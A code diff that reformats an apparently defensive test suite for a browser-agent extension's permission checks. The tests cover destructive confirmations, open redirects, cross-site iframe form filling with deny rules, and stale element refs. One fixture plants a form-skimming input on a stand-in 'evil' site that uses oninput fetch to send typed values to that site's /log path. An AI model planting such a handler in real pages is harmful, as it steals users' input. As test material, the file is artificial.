@@ -62,7 +62,10 @@ describe('keys are judged by what they do', () => {
     let field = '';
     mock.enqueue(
       { toolCalls: [{ id: 'read', name: 'read_page', input: { filter: 'interactive' } }] },
-      (request) => ((field = ref(last(request), /textbox "Type DELETE to confirm"/)), { toolCalls: [{ id: 'enter', name: 'press_key', input: { key: 'Return', ref: field } }] }),
+      (request) => (
+        (field = ref(last(request), /textbox "Type DELETE to confirm"/)),
+        { toolCalls: [{ id: 'enter', name: 'press_key', input: { key: 'Return', ref: field } }] }
+      ),
       // Then: focus the field, and Enter with no ref (the judge reads what has the focus).
       () => ({ toolCalls: [{ id: 'focus', name: 'click', input: { ref: field } }] }),
       { toolCalls: [{ id: 'enter2', name: 'press_key', input: { key: 'Enter' } }] },
@@ -84,7 +87,10 @@ describe('keys are judged by what they do', () => {
     let field = '';
     mock.enqueue(
       { toolCalls: [{ id: 'read', name: 'read_page', input: { filter: 'interactive' } }] },
-      (request) => ((field = ref(last(request), /textbox "Type DELETE to confirm"/)), { toolCalls: [{ id: 'nl', name: 'type', input: { ref: field, text: 'DELETE\n' } }] }),
+      (request) => (
+        (field = ref(last(request), /textbox "Type DELETE to confirm"/)),
+        { toolCalls: [{ id: 'nl', name: 'type', input: { ref: field, text: 'DELETE\n' } }] }
+      ),
       () => ({ toolCalls: [{ id: 'submit', name: 'type', input: { ref: field, text: 'DELETE', submit: true } }] }),
       { text: 'Finished newline.' },
     );
@@ -97,7 +103,9 @@ describe('keys are judged by what they do', () => {
     ]);
     expect(prompts[0]?.text).toContain('types “DELETE⏎” into textbox “Type DELETE to confirm”; then Enter in textbox');
     expect(prompts[0]?.text).toContain('TextDELETE⏎');
-    await expect.poll(() => sites.site.requests.filter((r) => r.method === 'POST' && r.url === '/account/delete').map((r) => r.body)).toEqual(['confirm=DELETE']);
+    await expect
+      .poll(() => sites.site.requests.filter((r) => r.method === 'POST' && r.url === '/account/delete').map((r) => r.body))
+      .toEqual(['confirm=DELETE']);
   });
 });
 
@@ -119,7 +127,10 @@ describe('navigations are judged on where they land', () => {
   it('an address carrying another site’s address asks (an open redirect); approved, it lands there', async () => {
     const { tabId } = await openTab(sites.site.page('home2', '<!doctype html><title>Home</title><h1>Home</h1>'));
     const target = `${sites.evil.origin}/landing`;
-    mock.enqueue({ toolCalls: [{ id: 'go', name: 'navigate', input: { url: `/redirect?to=${encodeURIComponent(target)}` } }] }, { text: 'Finished open redirect.' });
+    mock.enqueue(
+      { toolCalls: [{ id: 'go', name: 'navigate', input: { url: `/redirect?to=${encodeURIComponent(target)}` } }] },
+      { text: 'Finished open redirect.' },
+    );
     const panel = await openReadyPanel(ext, tabId);
     const prompts = await driveTask(panel, 'Follow the redirect.', { decide: allow, finished: 'Finished open redirect.' });
     expect(prompts).toMatchObject([{ tool: 'navigate', flagged: true, text: expect.stringContaining('a redirect on the site may forward the tab there') }]);
@@ -155,13 +166,37 @@ describe('navigations are judged on where they land', () => {
 
 describe('frames and runs', () => {
   it('fill_form across the page and a frame of another site asks in auto mode; a deny rule on the page’s site is not dodged by the frame', async () => {
-    sites.evil.page('frame', `<!doctype html><title>Ad</title><label>Your e-mail <input name="ad" oninput="fetch('/log?v='+encodeURIComponent(this.value))"></label>`);
-    const { tabId } = await openTab(sites.site.page('framed', `<!doctype html><title>Form</title><label>Name <input name="n"></label><iframe src="{{EVIL}}/p/frame" width="400" height="120"></iframe>`));
+    sites.evil.page(
+      'frame',
+      `<!doctype html><title>Ad</title><label>Your e-mail <input name="ad" oninput="fetch('/log?v='+encodeURIComponent(this.value))"></label>`,
+    );
+    const { tabId } = await openTab(
+      sites.site.page(
+        'framed',
+        `<!doctype html><title>Form</title><label>Name <input name="n"></label><iframe src="{{EVIL}}/p/frame" width="400" height="120"></iframe>`,
+      ),
+    );
     const script = () => {
       let refs: string[] = [];
       return [
         { toolCalls: [{ id: 'read', name: 'read_page', input: { filter: 'interactive' } }] },
-        (request: RecordedRequest) => ((refs = [ref(last(request), /textbox "Name"/), ref(last(request), /textbox "Your e-mail"/)]), { toolCalls: [{ id: 'fill', name: 'fill_form', input: { fields: [{ ref: refs[1], value: 'ada@site.test' }, { ref: refs[0], value: 'Ada' }] } }] }),
+        (request: RecordedRequest) => (
+          (refs = [ref(last(request), /textbox "Name"/), ref(last(request), /textbox "Your e-mail"/)]),
+          {
+            toolCalls: [
+              {
+                id: 'fill',
+                name: 'fill_form',
+                input: {
+                  fields: [
+                    { ref: refs[1], value: 'ada@site.test' },
+                    { ref: refs[0], value: 'Ada' },
+                  ],
+                },
+              },
+            ],
+          }
+        ),
         { text: 'Finished frames.' },
       ];
     };
@@ -171,19 +206,28 @@ describe('frames and runs', () => {
     expect(prompts).toMatchObject([{ tool: 'fill_form', flagged: true, text: expect.stringContaining('across 2 sites') }]);
     expect(sites.evil.received('ada@site.test')).toBe(false);
 
-    await ext.setSettings({ ...mockSettings(mock.url, 'auto'), rules: { allow: ['fill_form'], deny: [`fill_form(${new URL(sites.site.origin).host})`], ask: [] } });
+    await ext.setSettings({
+      ...mockSettings(mock.url, 'auto'),
+      rules: { allow: ['fill_form'], deny: [`fill_form(${new URL(sites.site.origin).host})`], ask: [] },
+    });
     mock.reset();
     mock.enqueue(...script());
     await panel.close();
     panel = await openReadyPanel(ext, tabId);
     expect(await driveTask(panel, 'Fill in my name.', { decide: allow, finished: 'Finished frames.' })).toEqual([]);
-    expect(JSON.parse(resultText(mock, 'fill').text).error).toMatchObject({ code: 'PERMISSION_DENIED', message: expect.stringContaining('blocked by the rule') });
+    expect(JSON.parse(resultText(mock, 'fill').text).error).toMatchObject({
+      code: 'PERMISSION_DENIED',
+      message: expect.stringContaining('blocked by the rule'),
+    });
   });
 
   it('a ref from an earlier run is STALE_REF: the new run must read the page first', async () => {
     const { tabId } = await openTab(sites.site.page('refs', '<!doctype html><title>Refs</title><button>Save</button>'));
     let saved = '';
-    mock.enqueue({ toolCalls: [{ id: 'read', name: 'read_page', input: {} }] }, (request) => ((saved = ref(last(request), /button "Save"/)), { text: 'Finished first.' }));
+    mock.enqueue(
+      { toolCalls: [{ id: 'read', name: 'read_page', input: {} }] },
+      (request) => ((saved = ref(last(request), /button "Save"/)), { text: 'Finished first.' }),
+    );
     const panel = await openReadyPanel(ext, tabId);
     await driveTask(panel, 'Look.', { decide: allow, finished: 'Finished first.' });
     mock.enqueue(() => ({ toolCalls: [{ id: 'old', name: 'click', input: { ref: saved } }] }), { text: 'Finished second.' });
